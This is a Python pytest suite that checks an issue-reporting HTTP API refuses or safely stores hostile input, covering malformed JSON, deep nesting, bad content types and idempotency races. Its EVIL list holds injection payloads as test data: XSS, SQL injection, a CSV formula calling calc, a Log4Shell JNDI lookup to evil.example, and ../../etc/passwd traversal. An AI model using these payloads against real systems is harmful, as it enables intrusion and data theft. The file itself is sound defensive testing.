"""What a hostile client may send is refused by name, or kept as what it is: never a 5xx, never a change."""

from __future__ import annotations

import json
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from urllib.parse import quote

import pytest
from asgi import Client
from photo_files import jpeg
from services import Served, lamp, refused, served

from layers.keys import create_key
from layers.life_cycle import Role
from layers.times import now_us

JSON = {"content-type": "application/json"}
NDJSON = {"content-type": "application/x-ndjson"}
DEEP = 100_000
MEGABYTE = 1_000_000


@pytest.fixture(scope="module")
def here(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    with served(tmp_path_factory.mktemp("city")) as found:
        yield found


# Numbers and texts of JSON.

NUMBERS = [
    "NaN", "Infinity", "-Infinity", "1e999", "-1e999", "18446744073709551616", "-9223372036854775809",
    "9" * 400, "-" + "9" * 400, "1" + "0" * 5000, "0x10", "1_000", ".5", "1.", "+1", "01", "1e", "true",
]  # fmt: skip
BODIES = {
    "POST /v1/reports": '{"lng":%s,"lat":32.005,"category":"0118"}',
    "POST /v1/reports ": '{"lng":120.805,"lat":32.005,"accuracy_m":%s}',
    "POST /v1/locate": '[{"lng":%s,"lat":32.005}]',
    "POST /v1/issues/1/actions": '{"action":"comment","reason":"x","version":%s}',
    "POST /v1/erase": '{"reporter":%s}',
}


@pytest.mark.parametrize("number", NUMBERS, ids=lambda text: text[:12])
def test_a_number_that_is_none_or_too_large_is_refused(here: Served, number: str) -> None:
    for route, body in BODIES.items():
        method, _, path = route.strip().partition(" ")
        answer = here.client.request(method, path, content=body.replace("%s", number), headers=JSON)
        if path == "/v1/locate" and answer.status_code == 200:
            (row,) = answer.json()["answers"]
            assert row["error"]["status"] == 422
        else:
            assert refused(answer, 422)
    row = f'{{"lng":{number},"lat":1}}'
    line = here.client.post("/v1/reports/batch", content=row, headers=NDJSON)
    assert line.json()["status"] == 422


@pytest.mark.parametrize("number", ["NaN", "inf", "-inf", "1e999", "9" * 400, "0x1", "1,2", "x"])
@pytest.mark.parametrize("query", [
    "/v1/issues?limit={}", "/v1/issues?bbox={0},{0},{0},{0}", "/v1/cells?bbox=1,2,3,{}",
    "/v1/owners?limit={}",
    "/v1/locate?lng={}&lat=1", "/v1/locate?lng=1&lat=1&accuracy_m={}", "/v1/assets/street_light?limit={}",
])  # fmt: skip
def test_a_number_of_a_query_that_is_none_is_refused(here: Served, query: str, number: str) -> None:
    assert refused(here.client.get(query.format(quote(number))), 422)


TEXTS = {
    "lone surrogate": rb'"\ud800"', "pair the wrong way round": rb'"\udc00\ud800"', "NUL": rb'"a\u0000b"',
    "invalid UTF-8": b'"\xff\xfe"', "half a character": b'"\xe4\xb8"', "overlong": b'"\xc0\xaf"',
    "surrogate as bytes": b'"\xed\xa0\x80"', "raw control": b'"a\x00b"',
    "10 MB": b'"' + b"x" * 10 * MEGABYTE + b'"',
}  # fmt: skip


@pytest.mark.parametrize("name", TEXTS)
def test_a_text_that_is_none_or_too_long_is_refused(here: Served, name: str) -> None:
    for field in ("text", "category", "reporter", "external_id", "datum", "occurred_at"):
        body = b'{"' + field.encode() + b'":' + TEXTS[name] + b"}"
        status = 413 if name == "10 MB" else 422
        assert refused(here.client.post("/v1/reports", content=body, headers=JSON), status)
        answer = here.client.post("/v1/locate", content=b"[" + body + b"]", headers=JSON)
        assert answer.status_code == 422 or answer.json()["answers"][0]["error"]["status"] == 422
        for line in here.client.post("/v1/reports/batch", content=body, headers=NDJSON).content.splitlines():
            assert json.loads(line)["status"] == status


@pytest.mark.parametrize("opening", [b"[", b'{"a":', b'{"geometry":{"type":"x","a":[', b'{"reports":['])
def test_nesting_has_an_end(here: Served, opening: bytes) -> None:
    body = opening + (b"[" if opening.endswith(b"[") else opening) * DEEP
    for path in ("/v1/reports", "/v1/locate", "/v1/erase", "/v1/issues/1/actions"):
        for whole in (body[:MEGABYTE], body[: MEGABYTE // 2] + b"]" * 10):
            assert refused(here.client.post(path, content=whole, headers=JSON), 422)


def test_geometry_that_is_nested_or_huge_or_no_geometry_is_refused(here: Served) -> None:
    deep: object = {"type": "Point", "coordinates": [1, 2]}
    for _ in range(150):
        deep = {"type": "GeometryCollection", "geometries": [deep]}
    ring = [[120.8 + (n % 7) / 100, 32 + (n % 11) / 100] for n in range(3000)]
    for geometry in (
        deep, {}, {"type": "Polygon"}, {"type": "Polygon", "coordinates": []},
        {"type": "Polygon", "coordinates": [[[1, 2]]]}, {"type": "LineString", "coordinates": [[1, 2], [1,
        2]]},
        {"type": "Polygon", "coordinates": [[*ring, ring[0]]]},
        {"type": "LineString", "coordinates": [[1, 2], [1e308, 1e308]]},
        {"type": "LineString", "coordinates": [[10**30, 2], [3, 4]]},
        {"type": "LineString", "coordinates": [[None, 2], ["x", 4]]}, {"type": ["a"],
        "coordinates": {"x": 1}},
        {"type": "Feature", "geometry": None}, {"type": "LineString", "coordinates": [[0, 0]] * 20_000},
    ):  # fmt: skip
        assert refused(here.client.post("/v1/reports", json={"geometry": geometry}), 422)


def test_of_a_key_that_stands_twice_the_last_one_counts_everywhere(here: Served) -> None:
    body = '{"text":"first","lng":120.805,"lat":32.005,"text":"last"}'
    answers = [
        here.client.post("/v1/reports", content=body, headers=JSON).json()["issue"]["url"],
        "/v1/issues/" + here.client.post("/v1/reports/batch", content=body, headers=NDJSON).json()["number"],
    ]
    for url in answers:
        assert here.client.get(url).json()["reports"][0]["text"] == "last"


# Bodies.


@pytest.mark.parametrize(("headers", "status"), [
    ({"content-type": "text/plain"}, 415), ({"content-type": "application/x-www-form-urlencoded"}, 415),
    ({"content-type": ""}, 415), ({"content-type": "application/json;" * 500}, 201), ({}, 415),
    ({"content-type": "multipart/form-data"}, 400), ({"content-type": "multipart/form-data; boundary="}, 400),
    ({"content-type": "multipart/form-data; boundary=" + "b" * 300}, 400), ({"content-type": "\xff/\x80"},
    415),
    ({**JSON, "content-encoding": "gzip"}, 415), ({**JSON, "content-encoding": "br, gzip"}, 415),
])  # fmt: skip
def test_a_body_of_another_kind_is_refused(here: Served, headers: dict[str, str], status: int) -> None:
    raw = {name: value.encode("latin-1") for name, value in headers.items()}
    answer = here.client.post("/v1/reports", content=json.dumps(lamp()).encode(), headers=raw)
    assert answer.status_code == status, answer.text
    assert status == 201 or refused(answer, status)


@pytest.mark.parametrize(
    "body", [b"", b" ", b"null", b"0", b'""', b"[]", b"{", b"\xef\xbb\xbf{}", b"\x1f\x8b\x08"]
)
def test_a_body_that_is_no_object_is_refused(here: Served, body: bytes) -> None:
    for path in ("/v1/reports", "/v1/erase", "/v1/issues/1/actions", "/v1/session"):
        assert refused(here.client.post(path, content=body, headers=JSON), 422)


def test_a_form_with_too_many_fields_or_photos_is_refused(here: Served) -> None:
    many = [(f"f{n}", (None, "x")) for n in range(5000)]
    assert refused(here.client.post("/v1/reports", files=many), 400)
    photos = [("photo", (f"{n}.jpg", b"x", "image/jpeg")) for n in range(6)]
    assert refused(here.client.post("/v1/reports", files=photos), 400)
    elsewhere = [("avatar", ("../../etc/passwd", jpeg(), "image/jpeg"))]
    assert refused(here.client.post("/v1/reports", files=elsewhere), 400)


# What is sent is data.

EVIL = [
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "</script><svg/onload=alert(1)>",
    "`${7*7}`",
    "{{7*7}} {%x%} <%= 7*7 %>", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "'; DROP TABLE issues; --",
    "a' OR '1'='1", "%s %d %n {0} {__class__}", "${jndi:ldap://evil.example/x}", "../../etc/passwd",
    "\u202egpj.exe",
    "张三\u0000"[:-1], "\u2028\u2029\ufeff\u200b", "𝕏" * 50, "null", "NaN", "\\", '"', "~" * 200,
]  # fmt: skip
FIELDS = ("text", "category", "channel", "reporter", "contact", "external_id")


@pytest.mark.parametrize("evil", EVIL)
def test_every_text_is_kept_as_it_was_and_given_back_as_data(here: Served, evil: str) -> None:
    said = dict.fromkeys(FIELDS, evil) | {"lng": lamp()["lng"], "lat": lamp()["lat"]}
    answer = here.client.post("/v1/reports", json=said)
    assert answer.status_code == 201
    url = answer.json()["issue"]["url"]
    moved = here.client.post(f"{url}/actions", json={"action": "comment", "reason": evil})
    assert moved.status_code == 200
    shown = here.client.get(url)
    assert shown.headers["content-type"] == "application/json"
    assert shown.headers["x-content-type-options"] == "nosniff"
    (report,) = shown.json()["reports"]
    kept = evil.strip()
    assert [report[name] for name in FIELDS] == [kept] * len(FIELDS)
    assert shown.json()["events"][-1]["reason"] == kept
    page = here.client.get("/v1/issues", params={"category": kept, "order": "newest", "limit": 1})
    assert page.json()["features"][0]["properties"]["category"] == kept.split(",")[0]


@pytest.mark.parametrize(
    "name", ["category", "channel", "reporter", "contact", "external_id", "issue", "datum"]
)
def test_a_word_is_one_line_without_commands_to_a_terminal(here: Served, name: str) -> None:
    for evil in ("a\nb", "a\r\nSet-Cookie: x", "\x1b[2J", "\x07", "\x7f", "x" * 201):
        assert refused(here.client.post("/v1/reports", json={"text": "x", name: evil}), 422)


@pytest.mark.parametrize("evil", EVIL)
def test_a_message_repeats_what_was_sent_as_data(here: Served, evil: str) -> None:
    """Whatever is wrong with it: in a path, a query, a body and a key."""
    answers = [
        here.client.get(f"/v1/issues/{quote(evil, safe='')}"),
        here.client.get("/v1/issues", params={evil: "1", "status": evil}),
        here.client.post("/v1/reports", json={evil: evil, "datum": evil}),
        here.client.post("/v1/issues/1/actions", json={"action": evil}),
    ]
    for answer in answers:
        assert refused(answer, 404, 422)
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["content-security-policy"].startswith("default-src 'none'")


# Idempotency keys.


def test_whoever_the_client_is_his_keys_are_his_own(tmp_path: Path) -> None:
    with served(tmp_path / "city") as here:
        city = here.service.live.city
        one, other = (create_key(city, Role.DISPATCHER, now_us=now_us())[1] for _ in range(2))
        answers = [
            here.client.post(
                "/v1/reports", json=lamp(text=text), headers={**here.as_key(key), "Idempotency-Key": "same"}
            )
            for key, text in ((one, "a"), (other, "b"), (one, "a"), (one, "b"))
        ]
    assert [answer.status_code for answer in answers] == [201, 201, 201, 422]
    assert answers[0].json()["issue"]["id"] != answers[1].json()["issue"]["id"]
    assert answers[2].content == answers[0].content
    assert answers[3].json()["code"] == "idempotency_key_reused"


def test_a_key_of_a_batch_is_no_key_of_a_report(here: Served) -> None:
    """Line 1 of the batch "k" and the report "k:1" were one once, and each broke on the other's answer."""
    body = lamp(text="twice")
    batch = {"content": json.dumps(body), "headers": {**NDJSON, "Idempotency-Key": "k"}}
    single = {"json": body, "headers": {"Idempotency-Key": "k:1"}}
    first, second = here.client.post("/v1/reports/batch", **batch), here.client.post("/v1/reports", **single)
    assert (first.json()["status"], second.status_code) == (201, 201)
    again = here.client.post("/v1/reports/batch", **batch).json()
    assert (again["status"], again["number"]) == (200, first.json()["number"])
    assert here.client.post("/v1/reports", **single).json() == second.json()


def test_requests_with_one_key_at_once_store_one_report(here: Served) -> None:
    before = here.service.live.open.count

    def send(_: int) -> int:
        headers = {"Idempotency-Key": "at once"}
        client = Client(here.app)
        return client.post("/v1/reports", json=lamp(text="at once"), headers=headers).status_code

    with ThreadPoolExecutor(8) as pool:
        statuses = list(pool.map(send, range(24)))
    assert set(statuses) <= {201, 409}
    assert 201 in statuses
    assert here.service.live.open.count == before + 1


@pytest.mark.parametrize("key", [b"", b"x" * 201, b"a\tb", b"\x80"])
def test_a_key_that_is_none_is_refused(here: Served, key: bytes) -> None:
    for path, said in (("/v1/reports", {"json": lamp()}), ("/v1/reports/batch", {"content": b"{}"})):
        kind = JSON if "json" in said else NDJSON
        assert refused(here.client.post(path, headers={**kind, "Idempotency-Key": key}, **said), 400)


# Batches.


def test_a_batch_without_end_of_line_and_one_of_empty_lines_are_read(here: Served) -> None:
    line = json.dumps(lamp()).encode()
    for body, count in ((line, 1), (line + b"\r\n\r\n" + line, 2), (b"", 0), (b"\n" * MEGABYTE, 0)):
        answer = here.client.post("/v1/reports/batch", content=body, headers=NDJSON)
        assert [json.loads(one)["status"] for one in answer.content.splitlines()] == [201] * count


def test_a_line_that_is_too_long_ends_the_batch_and_is_named(here: Served) -> None:
    line = json.dumps(lamp()).encode()
    body = b"\n".join([line, b"{", b'{"text":"' + b"x" * MEGABYTE + b'"}', line])
    answer = here.client.post("/v1/reports/batch", content=body, headers=NDJSON)
    said = [json.loads(one) for one in answer.content.splitlines()]
    assert [(one["line"], one["status"]) for one in said] == [(1, 201), (2, 422), (None, 413)]
    assert "Line 3" in said[-1]["detail"]
